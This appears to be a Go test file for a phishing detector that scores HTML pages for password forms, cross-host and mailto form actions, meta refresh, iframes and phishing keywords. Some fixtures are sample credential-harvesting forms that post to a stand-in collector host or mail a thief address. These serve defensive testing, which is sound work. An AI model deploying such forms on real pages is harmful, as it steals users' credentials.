package content

import (
	"strings"
	"testing"

	"github.com/nao1215/linkguard/internal/model"
)

// findingByTechnical pulls one finding by a substring of its technical
// description.
func findingByTechnical(t *testing.T, findings []model.ContentFinding, substr string) model.ContentFinding {
	t.Helper()
	for _, f := range findings {
		if strings.Contains(f.Technical, substr) {
			return f
		}
	}
	t.Fatalf("no finding matching %q in %+v", substr, findings)
	return model.ContentFinding{}
}

func hasFinding(findings []model.ContentFinding, substr string) bool {
	for _, f := range findings {
		if strings.Contains(f.Technical, substr) {
			return true
		}
	}
	return false
}

func TestAnalyzeHTMLForms(t *testing.T) {
	t.Parallel()

	t.Run("password form scores highest", func(t *testing.T) {
		t.Parallel()

		html := `<form action="/login"><input type="password" name="pw"></form>`
		findings := AnalyzeHTML(html, "site.example")

		f := findingByTechnical(t, findings, "password input")
		if f.Score != 25 {
			t.Errorf("expected score 25, got %d", f.Score)
		}
	})

	t.Run("email form scores below password form", func(t *testing.T) {
		t.Parallel()

		html := `<form><input type="email" name="mail"></form>`
		findings := AnalyzeHTML(html, "site.example")

		f := findingByTechnical(t, findings, "email input")
		if f.Score != 12 {
			t.Errorf("expected score 12, got %d", f.Score)
		}
	})

	t.Run("input type findings are mutually exclusive", func(t *testing.T) {
		t.Parallel()

		html := `<form><input type="email"><input type="password"></form>`
		findings := AnalyzeHTML(html, "site.example")

		if !hasFinding(findings, "password input") {
			t.Error("password finding must win")
		}
		if hasFinding(findings, "email input") {
			t.Error("email finding must be suppressed by the password finding")
		}
	})

	t.Run("bare form still scores", func(t *testing.T) {
		t.Parallel()

		findings := AnalyzeHTML(`<form><input type="text"></form>`, "site.example")
		f := findingByTechnical(t, findings, "form element present")
		if f.Score != 10 {
			t.Errorf("expected score 10, got %d", f.Score)
		}
	})

	t.Run("no form no form findings", func(t *testing.T) {
		t.Parallel()

		findings := AnalyzeHTML(`<p>just text with a password mention</p>`, "site.example")
		if hasFinding(findings, "form") {
			t.Errorf("unexpected form finding: %+v", findings)
		}
	})
}

func TestAnalyzeHTMLFormActions(t *testing.T) {
	t.Parallel()

	t.Run("cross-host action", func(t *testing.T) {
		t.Parallel()

		html := `<form action="https://collector.example/steal" method="post"><input type="password"></form>`
		findings := AnalyzeHTML(html, "site.example")

		f := findingByTechnical(t, findings, "action host collector.example")
		if f.Score != 15 {
			t.Errorf("expected score 15, got %d", f.Score)
		}
		if f := findingByTechnical(t, findings, "method POST"); f.Score != 5 {
			t.Errorf("expected POST score 5, got %d", f.Score)
		}
	})

	t.Run("mailto action", func(t *testing.T) {
		t.Parallel()

		html := `<form action="mailto:thief@evil.example"><input type="text"></form>`
		findings := AnalyzeHTML(html, "site.example")

		if f := findingByTechnical(t, findings, "mailto"); f.Score != 15 {
			t.Errorf("expected score 15, got %d", f.Score)
		}
	})

	t.Run("plain-http action on a different host scores both", func(t *testing.T) {
		t.Parallel()

		html := `<form action="http://other.example/submit"><input type="text"></form>`
		findings := AnalyzeHTML(html, "site.example")

		if !hasFinding(findings, "action host other.example") {
			t.Error("missing cross-host finding")
		}
		if f := findingByTechnical(t, findings, "over http"); f.Score != 10 {
			t.Errorf("expected score 10, got %d", f.Score)
		}
	})

	t.Run("relative action on own host adds nothing", func(t *testing.T) {
		t.Parallel()

		findings := AnalyzeHTML(`<form action="/login"><input type="text"></form>`, "site.example")
		if hasFinding(findings, "action host") {
			t.Errorf("relative action must not look foreign: %+v", findings)
		}
	})
}

func TestAnalyzeHTMLPagePatterns(t *testing.T) {
	t.Parallel()

	t.Run("iframe", func(t *testing.T) {
		t.Parallel()

		findings := AnalyzeHTML(`<iframe src="https://x.example/ad"></iframe>`, "site.example")
		if f := findingByTechnical(t, findings, "iframe"); f.Score != 6 {
			t.Errorf("expected score 6, got %d", f.Score)
		}
	})

	t.Run("meta refresh", func(t *testing.T) {
		t.Parallel()

		findings := AnalyzeHTML(`<meta http-equiv="refresh" content="0;url=https://x.example">`, "site.example")
		if f := findingByTechnical(t, findings, "meta refresh"); f.Score != 8 {
			t.Errorf("expected score 8, got %d", f.Score)
		}
	})

	t.Run("many external script hosts", func(t *testing.T) {
		t.Parallel()

		html := `
			<script src="https://a.example/x.js"></script>
			<script src="https://b.example/y.js"></script>
			<script src="https://c.example/z.js"></script>
			<script src="https://site.example/own.js"></script>
		`
		findings := AnalyzeHTML(html, "site.example")
		if f := findingByTechnical(t, findings, "external hosts"); f.Score != 8 {
			t.Errorf("expected score 8, got %d", f.Score)
		}
	})

	t.Run("two external script hosts stay silent", func(t *testing.T) {
		t.Parallel()

		html := `
			<script src="https://a.example/x.js"></script>
			<script src="https://b.example/y.js"></script>
		`
		if hasFinding(AnalyzeHTML(html, "site.example"), "external hosts") {
			t.Error("threshold is three distinct hosts")
		}
	})

	t.Run("single phishing keyword fires", func(t *testing.T) {
		t.Parallel()

		findings := AnalyzeHTML(`<p>Welcome to your BANK.</p>`, "site.example")
		if f := findingByTechnical(t, findings, "phishing keywords"); f.Score != 5 {
			t.Errorf("expected score 5, got %d", f.Score)
		}
	})

	t.Run("keyword cluster scores once and lists every hit", func(t *testing.T) {
		t.Parallel()

		findings := AnalyzeHTML(`<p>login password bank security verify account</p>`, "site.example")

		f := findingByTechnical(t, findings, "phishing keywords")
		if f.Score != 5 {
			t.Errorf("expected score 5, got %d", f.Score)
		}
		for _, word := range []string{"login", "password", "verify", "account", "bank", "security"} {
			if !strings.Contains(f.Technical, word) {
				t.Errorf("expected technical line to list %q, got %q", word, f.Technical)
			}
		}

		count := 0
		for _, finding := range findings {
			if strings.Contains(finding.Technical, "phishing keywords") {
				count++
			}
		}
		if count != 1 {
			t.Errorf("expected one keyword finding, got %d", count)
		}
	})

	t.Run("download push", func(t *testing.T) {
		t.Parallel()

		findings := AnalyzeHTML(`<p>download installer setup</p>`, "site.example")

		f := findingByTechnical(t, findings, "download keywords")
		if f.Score != 8 {
			t.Errorf("expected score 8, got %d", f.Score)
		}
		for _, word := range []string{"download", "installer", "setup"} {
			if !strings.Contains(f.Technical, word) {
				t.Errorf("expected technical line to list %q, got %q", word, f.Technical)
			}
		}
	})

	t.Run("benign page yields nothing", func(t *testing.T) {
		t.Parallel()

		findings := AnalyzeHTML(`<html><body><h1>Weather</h1><p>Sunny.</p></body></html>`, "site.example")
		if len(findings) != 0 {
			t.Errorf("expected no findings, got %+v", findings)
		}
	})
}
